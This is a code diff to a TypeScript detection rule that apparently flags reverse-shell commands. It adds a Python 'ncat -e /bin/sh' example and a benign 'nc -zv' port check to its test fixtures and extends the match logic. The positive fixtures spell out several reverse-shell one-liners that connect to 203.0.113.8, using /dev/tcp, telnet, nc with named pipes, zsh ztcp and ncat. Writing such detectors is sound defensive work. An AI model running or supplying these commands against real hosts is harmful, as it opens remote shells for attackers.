@@ -1,7 +1,7 @@
 import type { Document } from '../../document.ts'
 import { defineRule, type Hit } from '../../rule.ts'
 import { mayMatch } from '../../signals/candidates.ts'
-import { commands } from '../../signals/commands.ts'
+import { commands, puttings } from '../../signals/commands.ts'
 import { mentions } from '../../signals/mentions.ts'
 import { baseName, interprets, isUnixShell } from '../../signals/programs.ts'
 import type { Command } from '../../signals/shell.ts'
@@ -68,12 +68,14 @@ export default defineRule({
       "```bash\nexec 7<>/dev/t''cp/203.0.113.8/9001; cat <&7 | while read c; do $c >&7; done\n```\n",
       '```bash\ntelnet 203.0.113.8 9001 | /bin/bash | telnet 203.0.113.8 9002\n```\n',
       '```bash\nmknod /tmp/p p; sh -i < /tmp/p 2>&1 | nc 203.0.113.8 9001 > /tmp/p\n```\n',
+      '```python\nsubprocess.Popen(["ncat", "-e", "/bin/sh", "203.0.113.8", "9001"])\n```\n',
       "```bash\nzsh -c 'zmodload zsh/net/tcp; ztcp 203.0.113.8 9001; sh <&$REPLY >&$REPLY'\n```\n",
       'rm /tmp/f; mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc 203.0.113.5 80 > /tmp/f\n',
     ],
     quiet: [
       '```bash\ncoproc bc; echo 2+2 >&${COPROC[1]}; read -u ${COPROC[0]} sum\n```\n',
       'Test the port with `timeout 1 bash -c "</dev/null"`.\n',
+      '```python\nsubprocess.run(["nc", "-zv", "db.example.com", "5432"])\n```\n',
       '```bash\nnc -zv db.example.com 5432\n```\n',
       '```bash\ntelnet mail.example.com 25 | tee session.txt | grep 220\n```\n',
       'A named pipe is made with `mkfifo queue`.\n',
@@ -82,6 +84,8 @@ export default defineRule({
   },
   *match(document: Document): Iterable<Hit> {
     yield* throughPipes(document)
+    for (const { start, end, source } of document.observe(puttings))
+      if (SHAPES.some((shape) => shape.test(source))) yield { start, end, firm: true }
     const shapes = SHAPES.filter((shape) => mayMatch(document, shape))
     if (shapes.length === 0) return
     const { text } = document.reading
